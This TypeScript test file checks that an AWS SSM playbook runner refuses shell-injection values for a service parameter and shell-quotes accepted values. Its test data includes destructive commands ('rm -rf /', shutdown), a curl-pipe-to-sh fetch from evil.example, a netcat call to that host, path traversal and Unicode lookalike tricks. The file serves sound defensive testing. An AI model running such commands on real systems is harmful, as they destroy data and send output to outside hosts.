/**
 * Parameters never reach a shell unchecked: hostile values for an SSM command template are refused
 * with a clear message, at planning and again at execution, and nothing is sent to AWS.
 */
import { resolve } from 'node:path';
import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { parseConfig } from '../../../src/config';
import { Planner, type IntentClassifier, type PlaybookParameter, type ResourceResolver } from '../../../src/core';
import { builtinActions, renderShell, shellQuote, StepRunner } from '../../../src/execution';
import { Catalog, loadPlaybooks, parsePlaybook } from '../../../src/playbooks';
import { RiskEngine } from '../../../src/risk';
import { awsProvider, resource } from '../../helpers/aws';

const ssm = mockClient(SSMClient);
beforeEach(() => {
  ssm.reset();
  ssm
    .on(DescribeInstanceInformationCommand)
    .resolves({ InstanceInformationList: [{ InstanceId: 'i-0123456789abcdef0', PingStatus: 'Online' }] });
  ssm.on(SendCommandCommand).resolves({ Command: { CommandId: 'cmd-1' } });
  ssm.on(GetCommandInvocationCommand).resolves({ Status: 'Success', ResponseCode: 0, StandardOutputContent: 'active' });
});

const registry = builtinActions();
const catalog = new Catalog(loadPlaybooks(resolve(__dirname, '../../../playbooks'), registry).playbooks);
const playbook = catalog.get('ssm-restart-service')!;
const web = resource('ec2-instance', 'i-0123456789abcdef0', {
  name: 'web-prod-1',
  state: 'running',
  facts: { ssmPingStatus: 'Online', platform: 'Linux/UNIX' },
});

const HOSTILE = [
  'nginx; rm -rf /',
  '$(curl -s http://evil.example/x.sh | sh)',
  '`reboot`',
  'nginx\nrm -rf /',
  'nginx && shutdown -h now',
  'nginx | nc evil.example 4444',
  "nginx' ; rm -rf / ; '",
  '--help',
  '../../etc/passwd',
  'nginх', // Cyrillic х (U+0445)
  'ngіnx', // Ukrainian і (U+0456)
  'nginx；rm -rf /', // fullwidth semicolon (U+FF1B)
  'nginx\u200b', // zero-width space
  'ｎｇｉｎｘ', // fullwidth letters
];

function planner(service: string) {
  const classifier: IntentClassifier = {
    classify: async () => ({
      playbook: 'ssm-restart-service',
      confidence: 1,
      params: { instance: 'web-prod-1', service },
      alternatives: [],
    }),
  };
  const resolver: ResourceResolver = { resolve: async () => ({ kind: 'match', resource: web, score: 1 }), reread: async (r) => r };
  const runner = new StepRunner({ provider: awsProvider(), registry, audit: { record: async () => undefined }, sleep: async () => {} });
  return new Planner({ classifier, resolver, assessor: new RiskEngine(parseConfig({}).approval), catalog, preflight: runner });
}

describe('hostile values for an SSM command template', () => {
  it.each(HOSTILE)('%j is refused at planning with a clear message, and nothing is sent to AWS', async (value) => {
    const plan = await planner(value).plan(`restart ${value} on web-prod-1`, { at: new Date(), requestId: 'req-1' });
    expect(plan.blocked).toBe(true);
    expect(plan.risk.reasons[0]).toBe(
      `\`service\` value "${value}" is not allowed: it must match ${playbook.parameters.find((p) => p.name === 'service')!.pattern}.`,
    );
    expect(ssm.commandCalls(SendCommandCommand)).toHaveLength(0);
  });

  it.each(HOSTILE)('%j is refused again by the step runner if it ever gets there, before any AWS call', async (value) => {
    const runner = new StepRunner({ provider: awsProvider(), registry, audit: { record: async () => undefined }, sleep: async () => {} });
    const result = await runner.execute(playbook, { instance: web, service: value }, { requestId: 'req-2', onProgress: () => undefined });
    expect(result.ok).toBe(false);
    expect(result.steps[0].error).toMatch(
      /^refused before calling AWS: `service` value .* is not allowed: it must match .*\. Nothing was sent to the instance\.$/,
    );
    expect(ssm.calls()).toHaveLength(0);
  });

  it('a plain service name passes, is shell-quoted, and runs', async () => {
    const plan = await planner('nginx').plan('restart nginx on web-prod-1', { at: new Date(), requestId: 'req-3' });
    expect(plan.blocked).toBe(false);
    const runner = new StepRunner({ provider: awsProvider(), registry, audit: { record: async () => undefined }, sleep: async () => {} });
    const result = await runner.execute(playbook, plan.params, { requestId: 'req-3', onProgress: () => undefined });
    expect(result.ok).toBe(true);
    expect(ssm.commandCalls(SendCommandCommand)[0].args[0].input.Parameters?.commands).toEqual([
      "systemctl restart 'nginx'",
      "systemctl is-active 'nginx'",
    ]);
  });
});

describe('shell quoting', () => {
  const loose: PlaybookParameter[] = [{ name: 'arg', type: 'string', required: true, pattern: '.*' }];

  it('quotes even what a too-loose pattern lets through, so it stays one argument', () => {
    expect(renderShell('echo {{arg}}', { arg: "a'; rm -rf / #" }, loose)).toBe(`echo 'a'\\''; rm -rf / #'`);
    expect(renderShell('echo {{arg}}', { arg: '$(id) `id`' }, loose)).toBe("echo '$(id) `id`'");
    expect(shellQuote('')).toBe("''");
  });

  it('refuses values of parameters that declare no pattern, and non-scalar values', () => {
    expect(() => renderShell('echo {{arg}}', { arg: 'x' }, [{ name: 'arg', type: 'string', required: true }])).toThrow(
      '`arg` has no declared pattern, so it may not go into a shell command',
    );
    expect(() => renderShell('echo {{arg}}', { arg: { a: 'b' } }, loose)).toThrow('`arg` is not a plain value');
  });

  it('the loader refuses a playbook that puts an unpatterned parameter into a shell command', () => {
    const text = `id: bad-shell
title: Bad shell
examples: [run it]
parameters:
  instance: { type: ssm-instance }
  what: { type: string }
risk: { base: low, reversible: true }
steps:
  - action: ssm.runShellScript
    with: { InstanceId: "{{instance.id}}", commands: ["echo {{what}}"] }
`;
    const out = parsePlaybook(text, 'bad.yaml', registry);
    expect(out.playbook).toBeUndefined();
    expect(out.problems).toEqual([
      {
        file: 'bad.yaml',
        line: 6,
        message: 'parameter `what` goes into a shell command (ssm.runShellScript commands), so it needs a `pattern` its values must match',
      },
    ]);
  });
});
